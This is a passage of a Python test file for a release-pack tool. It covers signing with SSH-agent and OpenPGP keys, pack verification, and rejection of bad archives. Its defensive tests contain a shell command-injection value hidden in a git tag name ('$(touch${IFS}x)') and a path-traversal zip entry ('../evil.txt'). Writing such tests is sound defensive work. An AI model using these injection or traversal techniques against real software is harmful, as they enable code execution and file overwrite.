    edit(released, "org.yaml", "name: Example Services Ltd", f'name: "{HOSTILE_ORGANISATION}"')
    commit_all(released, "a hostile name")
    git(released, "tag", "-a", HOSTILE_TAG, "-m", "hostile")
    try:
        code, _, stderr = pack(released, HOSTILE_TAG, "--draft", "-o", str(tmp_path / "out"))
        assert code == 0, stderr
        (written,) = (tmp_path / "out").glob("*.zip")
        readme = zipfile.ZipFile(written).read("README.txt").decode("utf-8")
        assert "v1.3.0$(touch${IFS}x)" in readme  # shown as written, in the text
        starts = ("touch", "sha256sum -c SHA256SUMS;")
        assert not [line for line in readme.splitlines() if line.lstrip().startswith(starts)]
        assert (
            "of Example Services Ltd touch x sha256sum -c SHA256SUMS; touch x: the manual"
            in " ".join(readme.split())
        )
        auditor = tmp_path / "auditor"
        assert standard_steps(written, auditor, None, "")
        path = f"{Path(sys.executable).parent}{os.pathsep}{os.environ['PATH']}"
        environment = {**os.environ, "PATH": path}  # smsdocs as installed
        every = "\n".join(
            line[2:]
            for line in readme.splitlines()
            if line.startswith("  ") and not line.startswith("   ")
        )
        for where in (auditor, released):
            subprocess.run(
                ["bash", "-c", every], cwd=where, capture_output=True, env=environment, check=False
            )
        verified = subprocess.run(
            ["bash", "-c", block(readme, "With smsdocs installed", "It says")],
            cwd=auditor,
            capture_output=True,
            text=True,
            env=environment,
            check=False,
        )
        assert verified.returncode == 0, verified.stderr
        assert "verified: " in verified.stdout
        assert "v1.3.0$(touch${IFS}x)" in verified.stdout
        rev = subprocess.run(
            ["bash", "-c", block(readme, "The commit in the organisation", None)],
            cwd=released,
            capture_output=True,
            text=True,
            check=False,
        )
        assert git(released, "rev-parse", "HEAD") in rev.stdout
        for where in (auditor, auditor / "unpacked", released, Path.cwd()):
            assert not (where / "x").exists(), where
    finally:
        git(released, "tag", "-d", HOSTILE_TAG)
        git(released, "reset", "-q", "--hard", "HEAD~1")


def test_a_pack_that_cannot_be_signed_fails_before_it_is_built(
    released: Path, tmp_path: Path
) -> None:
    git(released, "config", "gpg.format", "ssh")
    git(released, "config", "user.signingkey", "~/.ssh/no-such-key")
    try:
        code, stdout, stderr = pack(released, "v1.1.0", "--sign", "-o", str(tmp_path))
        git(released, "config", "gpg.format", "x509")
        x509 = pack(released, "v1.1.0", "--sign", "-o", str(tmp_path))
    finally:
        for name in ("user.signingkey", "gpg.format"):
            git(released, "config", "--unset", name)
    # One error line, and no step of the build ran.
    assert (code, stdout) == (1, "")
    assert stderr == (
        "error: user.signingkey names '~/.ssh/no-such-key', which is not a file: set it to "
        "your SSH key's file (~/.ssh/id_ed25519) or to key::<public key>\n"
    )
    assert x509[0] == 1 and x509[2] == (
        "error: gpg.format is 'x509': the pack is signed with an SSH or OpenPGP key; set "
        "gpg.format to ssh or openpgp\n"
    )
    assert list(tmp_path.iterdir()) == []


def test_a_literal_key_signs_with_the_agent_as_git_does(released: Path, tmp_path: Path) -> None:
    """user.signingkey written as 'key::ssh-ed25519 …' (valid for git) signs with the key
    the SSH agent holds; refused, before building, while the agent does not hold it."""
    from smsdocs import signing

    key, public = keypair(tmp_path, "agent_key")
    agent = shutil.which("ssh-agent")
    if agent is None:
        pytest.skip("ssh-agent is not installed")
    started = subprocess.run(
        [agent, "-s", "-a", str(tmp_path / "agent.sock")],
        capture_output=True,
        text=True,
        check=True,
    )
    pid = int(re.search(r"SSH_AGENT_PID=(\d+)", started.stdout).group(1))  # type: ignore[union-attr]
    git(released, "config", "gpg.format", "ssh")
    git(released, "config", "user.signingkey", f"key::{public}")
    try:
        with pytest.MonkeyPatch.context() as patch:
            patch.setenv("SSH_AUTH_SOCK", str(tmp_path / "agent.sock"))
            with pytest.raises(signing.SigningError, match="not in the SSH agent: add it"):
                signing.signer_of(released)
            subprocess.run(["ssh-add", "-q", str(key)], capture_output=True, check=True)
            signer = signing.signer_of(released)
            assert signer.fingerprint == ssh_fingerprint(public) and signer.literal
            target = tmp_path / "SHA256SUMS"
            target.write_bytes(b"some sums\n")
            signature = signing.sign(signer, target).read_bytes()
        assert signing.verify("ssh", public, b"some sums\n", signature) == signer.fingerprint
        with pytest.raises(signing.SigningError, match="does not verify"):
            signing.verify("ssh", public, b"other sums\n", signature)
    finally:
        os.kill(pid, 15)
        for name in ("user.signingkey", "gpg.format"):
            git(released, "config", "--unset", name)


def test_an_openpgp_signed_pack_carries_the_key_and_verifies(
    released: Path, tmp_path: Path
) -> None:
    """gpg.format openpgp (git's default): SHA256SUMS.asc and signer.asc in the pack, the
    key's fingerprint in the manifest and README.txt; verify-pack checks it with the key
    given, and refuses another key."""
    gpg = shutil.which("gpg")
    if gpg is None:
        pytest.skip("gpg is not installed")
    home = tmp_path / "gnupg"
    home.mkdir(mode=0o700)

    def make_key(uid: str) -> tuple[str, Path]:
        env = {**os.environ, "GNUPGHOME": str(home)}
        subprocess.run(
            [gpg, "--batch", "--passphrase", "", "--quick-gen-key", uid, "ed25519", "sign"],
            env=env,
            capture_output=True,
            check=True,
        )
        listed = subprocess.run(
            [gpg, "--batch", "--with-colons", "--fingerprint", uid],
            env=env,
            capture_output=True,
            text=True,
            check=True,
        ).stdout
        fingerprint = next(x.split(":")[9] for x in listed.splitlines() if x.startswith("fpr:"))
        exported = tmp_path / f"{fingerprint}.asc"
        exported.write_bytes(
            subprocess.run(
                [gpg, "--batch", "--armor", "--export", fingerprint],
                env=env,
                capture_output=True,
                check=True,
            ).stdout
        )
        return fingerprint, exported

    fingerprint, published = make_key("Example Services <sms@example.invalid>")
    _, stranger = make_key("Someone Else <else@example.invalid>")
    git(released, "config", "user.signingkey", fingerprint)
    try:
        with pytest.MonkeyPatch.context() as patch:
            patch.setenv("GNUPGHOME", str(home))
            code, _, stderr = pack(released, "v1.1.0", "--sign", "-o", str(tmp_path / "out"))
    finally:
        git(released, "config", "--unset", "user.signingkey")
    assert code == 0, stderr
    (written,) = (tmp_path / "out").glob("*.zip")
    with zipfile.ZipFile(written) as archive:
        names = archive.namelist()
        manifest = json.loads(archive.read("manifest.json"))
        readme = archive.read("README.txt").decode("utf-8")
    assert "SHA256SUMS.asc" in names and "signer.asc" in names
    assert manifest["signature"] == {
        "file": "SHA256SUMS.asc",
        "kind": "openpgp",
        "fingerprint": fingerprint,
        "public_key": "signer.asc",
    }
    assert f"with the OpenPGP key {fingerprint};" in readme
    assert "gpg --verify unpacked/SHA256SUMS.asc unpacked/SHA256SUMS" in readme
    code, stdout, stderr = verify(written, "--key", str(published))
    assert (code, stderr) == (0, ""), stdout
    assert f"signed by the OpenPGP key {fingerprint}, the key you gave (--key)" in stdout
    code, stdout, stderr = verify(written, "--key", str(stranger))
    assert code == 1 and stderr.startswith(
        f"error: {written.name}: the pack is signed by {fingerprint}, not by the key you gave"
    )


def test_verify_pack_refuses_what_is_no_pack(
    unpacked: Path, signed_pack: tuple[Path, Path], tmp_path: Path
) -> None:
    first = next(unpacked.parent.glob("first*/*.zip"))
    not_zip = tmp_path / "notes.zip"
    not_zip.write_text("not a zip", encoding="utf-8")
    code, _, stderr = verify(not_zip)
    assert code == 1 and stderr.startswith("error: notes.zip: notes.zip cannot be read as a zip")
    climbing = write_zip(tmp_path / "climbing.zip", [*entries(first), ("../evil.txt", b"x")])
    code, _, stderr = verify(climbing)
    assert (code, stderr) == (
        1,
        "error: climbing.zip: '../evil.txt' is not a file name a pack holds\n",
    )
    # An unsigned pack, with the organisation's key: a signature was asked for.
    code, _, stderr = verify(first, "--key", str(signed_pack[1]))
    assert code == 1 and "the pack is not signed, but you asked for a signature by" in stderr
    code, _, stderr = verify(tmp_path / "missing.zip")
    assert (code, stderr) == (2, f"error: {tmp_path / 'missing.zip'}: no such file\n")
